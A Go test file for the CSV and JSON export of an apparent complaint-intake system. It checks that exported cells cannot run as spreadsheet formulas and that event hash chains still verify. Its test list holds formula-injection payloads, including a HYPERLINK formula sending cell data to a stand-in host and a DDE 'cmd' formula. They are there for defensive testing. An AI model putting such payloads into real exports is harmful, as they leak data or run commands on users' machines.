package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"recourse/intake/docket"
	"recourse/intake/store"
	"recourse/intake/store/pgtest"
	"recourse/intake/store/postgres"
	"recourse/intake/store/sqlite"
	"recourse/intake/store/storetest"
)

func TestMain(m *testing.M) { pgtest.Main(m) }

var noon = time.Date(2026, 11, 20, 12, 3, 0, 123456000, time.UTC)

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func each(t *testing.T, test func(t *testing.T, s *store.Store)) {
	t.Run("SQLite", func(t *testing.T) { test(t, sqliteStore(t)) })
	t.Run("PostgreSQL", func(t *testing.T) {
		s, _, err := postgres.Open(t.Context(), pgtest.Database(t), storetest.Key)
		must(t, err)
		t.Cleanup(func() { s.Close() })
		test(t, s)
	})
}

func sqliteStore(t *testing.T) *store.Store {
	s, err := sqlite.Open(t.Context(), filepath.Join(t.TempDir(), "x.db"), storetest.Key)
	must(t, err)
	t.Cleanup(func() { s.Close() })
	return s
}

var everyCase = docket.Query{All: true}

// hostile are texts that a spreadsheet would run, or split into cells that it would run.
var hostile = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "−1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1",
	`=HYPERLINK("https://evil.example?x="&A1,"Click")`, "=cmd|'/C calc'!A0", `a;=1+1`, `a,=1+1`, `a|=1+1`, "a\t=1+1", `x";=1+1`, `x",=1+1`, `";"=1+1`, "a\n=1+1", "a\r\n+1+1", `a; "=1+1"`,
	"a;\u200b@SUM(1)", "=", "-", "a;b=c", "",
}

// However a spreadsheet splits the file, by comma, semicolon or tab, no cell begins like a formula; and nothing but apostrophes was added.
func TestSEC14_NoCellIsAFormula(t *testing.T) {
	s := sqliteStore(t)
	for _, text := range hostile {
		c := storetest.Example()
		c.Values["name"], c.Values["description"], c.Files[0].Name = text, text, text
		c = storetest.Submit(t, s, c)
		_, err := s.Write(t.Context(), c, docket.Message{Side: docket.Consumer, Text: text, Nonce: "1", Written: noon}, nil)
		must(t, err)
		must(t, s.Hold(t.Context(), c, text, "eva", noon))
		must(t, s.Rate(t.Context(), c, 3, text, noon, nil))
	}
	for _, o := range []CSV{{Separator: ',', Messages: true}, {Separator: ';', Messages: true, Mark: true}} {
		var b bytes.Buffer
		n, err := o.Write(t.Context(), &b, s, everyCase)
		if must(t, err); n != len(hostile) {
			t.Fatalf("%d cases; want %d", n, len(hostile))
		}
		text := strings.TrimPrefix(b.String(), "\ufeff")
		if o.Mark == (text == b.String()) {
			t.Errorf("%+v: byte order mark %v", o, text != b.String())
		}
		for _, separator := range []rune{',', ';', '\t'} {
			for _, row := range split(text, separator) {
				for _, cell := range row {
					first, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, unseen))
					if begins(first) {
						t.Errorf("%+v, split by %q: the cell %q is a formula", o, separator, cell)
					}
				}
			}
		}
		checkRows(t, o, text)
	}
}

// split does what the crudest spreadsheet does: quotes count at the beginning of a cell only.
func split(text string, separator rune) (rows [][]string) {
	var row []string
	var cell strings.Builder
	quoted, begun := false, false
	end := func() { row, begun = append(row, cell.String()), false; cell.Reset() }
	for _, r := range text {
		switch {
		case r == '"' && !begun:
			quoted, begun = true, true
		case r == '"' && quoted:
			quoted = false
		case r == '"':
			quoted = cell.Len() > 0 && !quoted && strings.HasSuffix(cell.String(), `"`)
			cell.WriteRune(r)
		case quoted:
			cell.WriteRune(r)
		case r == separator:
			end()
		case r == '\n' || r == '\r':
			end()
			rows, row = append(rows, row), nil
		default:
			cell.WriteRune(r)
			begun = true
		}
	}
	end()
	return append(rows, row)
}

func checkRows(t *testing.T, o CSV, text string) {
	t.Helper()
	in := csv.NewReader(strings.NewReader(text))
	in.Comma = o.Separator
	rows, err := in.ReadAll()
	must(t, err)
	column := map[string]int{}
	for i, name := range rows[0] {
		column[name] = i
	}
	for i, row := range rows[1:] {
		for _, name := range []string{"name", "description", "hold", "opinion", "files"} {
			got := strings.ReplaceAll(row[column[name]], "'", "")
			want := strings.ReplaceAll(strings.ReplaceAll(hostile[i], "'", ""), "\r\n", "\n") // the reader makes line feeds of them
			if got != want {
				t.Errorf("%s is %q; want %q with apostrophes only", name, row[column[name]], hostile[i])
			}
		}
	}
}

// Another program's reader finds no formula either.
func TestSEC14_PythonReadsNoFormula(t *testing.T) {
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Skip(err)
	}
	s := sqliteStore(t)
	for _, text := range hostile {
		c := storetest.Example()
		c.Values["description"] = text
		storetest.Submit(t, s, c)
	}
	for _, separator := range []rune{',', ';'} {
		var b bytes.Buffer
		_, err := CSV{Separator: separator}.Write(t.Context(), &b, s, everyCase)
		must(t, err)
		for _, delimiter := range []string{",", ";", "\t"} {
			script := `import csv, io, sys
for row in csv.reader(io.StringIO(sys.stdin.buffer.read().decode("utf-8"), newline=""), delimiter=sys.argv[1]):
    for cell in row:
        if cell.lstrip(" \u00a0\u200b\ufeff\t\r\n")[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20"): sys.exit("formula: %r" % cell)`
			c := exec.Command(python, "-c", script, delimiter)
			c.Stdin = bytes.NewReader(b.Bytes())
			if out, err := c.CombinedOutput(); err != nil {
				t.Errorf("written with %q, read with %q: %s", separator, delimiter, out)
			}
		}
	}
}

func TestSafe(t *testing.T) {
	for text, want := range map[string]string{
		"plain": "plain", "": "", "=1": "'=1", "\t1": "'\t1", "a\n-b": "a\n'-b", "a;=b": "a;'=b", "a - b = c": "a - b = c", "+48 600": "'+48 600", "eva@example.org": "eva@example.org",
	} {
		if got := safe(text); got != want {
			t.Errorf("safe(%q) = %q; want %q", text, got, want)
		}
	}
}

// JSON has everything, to the letter: the histories in it can be verified with the key.
func TestJSONLosesNothing(t *testing.T) {
	each(t, func(t *testing.T, s *store.Store) {
		c := storetest.Example()
		c.Values["description"] = "=1+1\u2028<b>\"ü"
		c = storetest.Submit(t, s, c)
		photo := docket.File{ID: "photo", Name: "p.jpg", Type: "image/jpeg", Size: 5, Sum: "ff"}
		_, err := s.Write(t.Context(), c, docket.Message{Side: docket.Consumer, Text: "Here", Nonce: "1", Written: noon, Files: []docket.File{photo}}, nil)
		must(t, err)
		_, err = s.Propose(t.Context(), c, docket.Proposal{Remedy: "refund", Text: "30", Author: "eva", Nonce: "1", Made: noon}, nil)
		must(t, err)
		must(t, s.Change(t.Context(), c, docket.Closed, "accepted", "eva", noon, nil))
		storetest.Submit(t, s, storetest.Example())

		var b bytes.Buffer
		n, err := JSON(t.Context(), &b, s, everyCase)
		if must(t, err); n != 2 {
			t.Errorf("%d cases", n)
		}
		var got []jsonCase
		in := json.NewDecoder(&b)
		in.DisallowUnknownFields()
		must(t, in.Decode(&got))
		if len(got) != 2 {
			t.Fatalf("%d cases", len(got))
		}
		one := got[0]
		if diff := cmp.Diff(c.Values, one.Fields); diff != "" {
			t.Error(diff)
		}
		if !one.Received.Equal(c.Received) || one.Closed == nil || one.Due.Day != "2026-12-04" || len(one.Messages) != 1 || len(one.Messages[0].Files) != 1 ||
			len(one.Proposals) != 1 || one.Proposals[0].Decided != nil || len(one.Letters) != 2 || len(one.Files) != 1 || got[1].Answered != nil {
			t.Errorf("got %+v", one)
		}
		previous := ""
		for _, e := range one.Events {
			event := docket.Event{Seq: e.Seq, What: e.What, Outcome: docket.Outcome(e.Outcome), Actor: e.Actor, Detail: e.Detail, About: e.About, Digest: e.Digest, At: e.At}
			if docket.Chain(storetest.Key, one.Reference, previous, event) != e.Hash {
				t.Errorf("the hash of event %d does not fit", e.Seq)
			}
			previous = e.Hash
		}
	})
}

func TestNoCases(t *testing.T) {
	s := sqliteStore(t)
	var b bytes.Buffer
	n, err := JSON(t.Context(), &b, s, everyCase)
	if must(t, err); n != 0 || b.String() != "[]\n" {
		t.Errorf("%d, %q", n, &b)
	}
	b.Reset()
	n, err = CSV{Separator: ','}.Write(t.Context(), &b, s, everyCase)
	if must(t, err); n != 0 || !strings.HasPrefix(b.String(), `"reference","shop",`) || strings.Count(b.String(), "\n") != 1 {
		t.Errorf("%d, %q", n, &b)
	}
}

func TestTranscript(t *testing.T) {
	s := sqliteStore(t)
	c := storetest.Submit(t, s, storetest.Example())
	_, err := s.Propose(t.Context(), c, docket.Proposal{Remedy: "refund", Text: "30 EUR", Author: "eva", Nonce: "1", Made: noon}, nil)
	must(t, err)
	_, err = s.Write(t.Context(), c, docket.Message{Side: docket.Consumer, Text: "Well", Nonce: "1", Written: noon.Add(time.Hour)}, nil)
	must(t, err)
	must(t, s.EachWhole(t.Context(), everyCase, func(w store.Whole) error {
		if got, want := transcript(w), "2026-11-20T12:03:00Z proposal refund open (eva): 30 EUR\n2026-11-20T13:03:00Z consumer: Well"; got != want {
			t.Errorf("%q; want %q", got, want)
		}
		return nil
	}))
}
